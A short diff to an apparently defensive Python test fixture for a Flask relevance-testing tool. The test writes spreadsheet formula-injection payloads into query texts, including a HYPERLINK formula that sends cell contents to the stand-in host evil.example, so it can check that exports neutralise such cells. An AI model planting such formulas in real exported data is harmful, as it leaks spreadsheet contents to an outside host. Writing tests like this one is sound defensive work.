@@ -111,7 +111,9 @@ def _hostile_set(app: Flask) -> tuple[int, list[int]]:
     built = build(app, "=Hostile", pool={"=q1": ["@d1", "+d2"], "-q2": ["=d3"]})
     with app.app_context():
         for query in db.session.query(Query).filter_by(test_set_id=built.test_set_id):
-            query.text = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+            # One text each: queries sharing a text are one query in Quepid's shapes, and a
+            # snapshot of a run ranking them differently is refused (nothing to defuse then).
+            query.text = f'=HYPERLINK("http://evil.example/?{query.qid}"&A1, "click")'
         db.session.commit()
         test_set = db.session.get_one(TestSet, built.test_set_id)
         run_ids = [
